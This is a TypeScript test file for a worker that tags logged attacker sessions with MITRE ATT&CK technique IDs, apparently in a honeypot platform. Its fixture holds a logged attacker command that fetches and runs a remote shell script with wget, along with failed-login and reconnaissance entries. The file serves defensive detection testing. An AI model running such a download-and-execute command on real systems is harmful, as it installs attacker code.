import assert from 'node:assert/strict'
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {describe, it, type TestContext} from 'node:test'

import type {Kysely} from 'kysely'

import type {Database, TtpTagRow} from '../../../src/db/schema.js'
import {parseDatabaseUrl} from '../../../src/db/url.js'
import type {JsonObject} from '../../../src/fleets/types.js'
import type {WorkerContext} from '../../../src/prefork/worker.js'
// from dist/: the worker loads its rules in a process that runs rules-child.js next to its module, which src/ does not have
import ttp from '../../../dist/workers/ttp/worker.js'
import type {DatabaseKind} from '../../helpers/databases.js'
import {DATABASE_KINDS, migratedDatabase, skipReason, useDatabaseUrl} from '../../helpers/databases.js'
import {commandLog, failedLogin, insertLogs, readTags as readTagsUntyped} from '../../helpers/ttp-logs.js'

const readTags = async (db: Kysely<Database>): Promise<TtpTagRow[]> => (await readTagsUntyped(db))

type OnDebug = (format: string, args: unknown[]) => unknown

/** A WorkerContext as the child entry builds it, with hooks for the test. */
function context({once = true, options = {}, onDebug = () => {}}: {once?: boolean; options?: JsonObject; onDebug?: OnDebug} = {}): {controller: AbortController; ctx: WorkerContext & {readyCalls: number}} {
  const controller = new AbortController()
  const ctx: WorkerContext & {readyCalls: number} = {
    // the database as the fleet gives it: here the test's DECNET_DB_URL (see useDatabaseUrl), parsed
    database: process.env.DECNET_DB_URL === undefined ? undefined : parseDatabaseUrl(process.env.DECNET_DB_URL),
    name: 'ttp',
    fleet: 'heavy',
    options,
    once,
    signal: controller.signal,
    readyCalls: 0,
    debug: (format, ...args) => void onDebug(format as string, args),
    ready() {
      ctx.readyCalls++
    },
  }
  return {controller, ctx}
}

async function setup(t: TestContext, kind: DatabaseKind): Promise<Kysely<Database>> {
  const {db, url} = await migratedDatabase(kind, t)
  useDatabaseUrl(t, url)
  return db
}

const cursorOf = async (db: Kysely<Database>): Promise<number> => Number((await db.selectFrom('worker_state').select('cursor').where('worker', '=', 'ttp').executeTakeFirstOrThrow()).cursor)

const SESSION = [
  commandLog('203.0.113.7', 0, 'uname -a'),
  ...[0.1, 0.2, 0.3, 0.4, 0.5].map((at) => failedLogin('203.0.113.8', at)),
  commandLog('203.0.113.7', 1, 'cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh'),
  commandLog('203.0.113.7', 2, 'testtool --all'),
]

for (const kind of DATABASE_KINDS) {
  describe(`ttp worker (${kind})`, {skip: skipReason(kind)}, () => {
    it('with once: reports ready, drains everything pending in bounded batches, and returns', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, SESSION)
      const ticks: unknown[] = []
      const {ctx} = context({onDebug: (format, args) => format.startsWith('tick') && ticks.push(args[0]), options: {batchSize: 3}})
      await ttp(ctx)
      assert.equal(ctx.readyCalls, 1)
      assert.deepEqual(ticks, [3, 3, 2])
      assert.equal(await cursorOf(db), 8)
      const techniques = (await readTags(db)).map((tag) => `${tag.log_id}:${tag.sub_technique_id ?? tag.technique_id}`)
      assert.deepEqual(techniques.sort(), ['1:T1082', '6:T1110.001', '7:T1059.004', '7:T1105'])

      await ttp(context().ctx) // a second run finds nothing new and duplicates nothing
      assert.equal((await readTags(db)).length, 4)
    })

    it('loads an operator rule directory from the rulesDir option, and from DECNET_RULES_DIR', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, SESSION)
      const dir = mkdtempSync(join(tmpdir(), 'decnet-rules-'))
      t.after(() => rmSync(dir, {force: true, recursive: true}))
      writeFileSync(join(dir, 'local.json'), JSON.stringify([{
        id: 'local.test-tool', version: 1, description: 'The test tool', field: 'command', pattern: '{{cmd}}testtool{{end}}',
        emits: [{tactic: 'TA0002', technique: 'T1059', subTechnique: null}], confidence: 0.5,
        examples: {match: ['testtool -x'], noMatch: ['testtools']},
      }]))
      writeFileSync(join(dir, 'broken.json'), '[')
      const warnings: string[] = []
      t.mock.method(console, 'warn', (line: string) => warnings.push(line))

      await ttp(context({options: {rulesDir: dir}}).ctx)
      assert.deepEqual((await readTags(db)).filter((tag) => tag.rule_id === 'local.test-tool').map((tag) => tag.log_id), [8])
      assert.equal(warnings.length, 1)
      assert.match(warnings[0], new RegExp(`^rule not loaded: ${join(dir, 'broken.json')}: cannot be read as JSON`))

      await db.deleteFrom('ttp_tags').execute()
      await db.updateTable('worker_state').set({cursor: 0}).execute()
      const saved = process.env.DECNET_RULES_DIR
      process.env.DECNET_RULES_DIR = dir
      t.after(() => (saved === undefined ? delete process.env.DECNET_RULES_DIR : (process.env.DECNET_RULES_DIR = saved)))
      await ttp(context().ctx)
      assert.ok((await readTags(db)).some((tag) => tag.rule_id === 'local.test-tool'))
    })

    it('without once: tags, then waits for the next pass until its signal stops it', {timeout: 60_000}, async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, SESSION)
      let caughtUp!: () => void
      const drained = new Promise<void>((resolve) => (caughtUp = resolve))
      const {controller, ctx} = context({once: false, options: {interval: 3600}, onDebug: (format, args) => format.startsWith('tick') && args[2] === 8 && caughtUp()})
      const running = ttp(ctx)
      await drained
      assert.equal((await readTags(db)).length, 4)
      controller.abort()
      await running // the hour-long pause ends with the signal; the test's timeout fails it otherwise
    })

    it('refuses bad options before touching the database', async (t) => {
      await setup(t, kind)
      await assert.rejects(ttp(context({options: {interval: -1}}).ctx), /Expected `interval` to be a positive number of seconds, got `-1`/)
      await assert.rejects(ttp(context({options: {rulesDir: 5}}).ctx), /Expected `rulesDir` to be a directory path, got `5`/)
    })
  })
}

describe('ttp worker without a database setting', () => {
  it('fails with a clear message', async (t) => {
    const saved = process.env.DECNET_DB_URL
    delete process.env.DECNET_DB_URL
    t.after(() => saved !== undefined && (process.env.DECNET_DB_URL = saved))
    await assert.rejects(ttp(context().ctx), /the ttp worker needs a database: its context gives none/)
  })
})
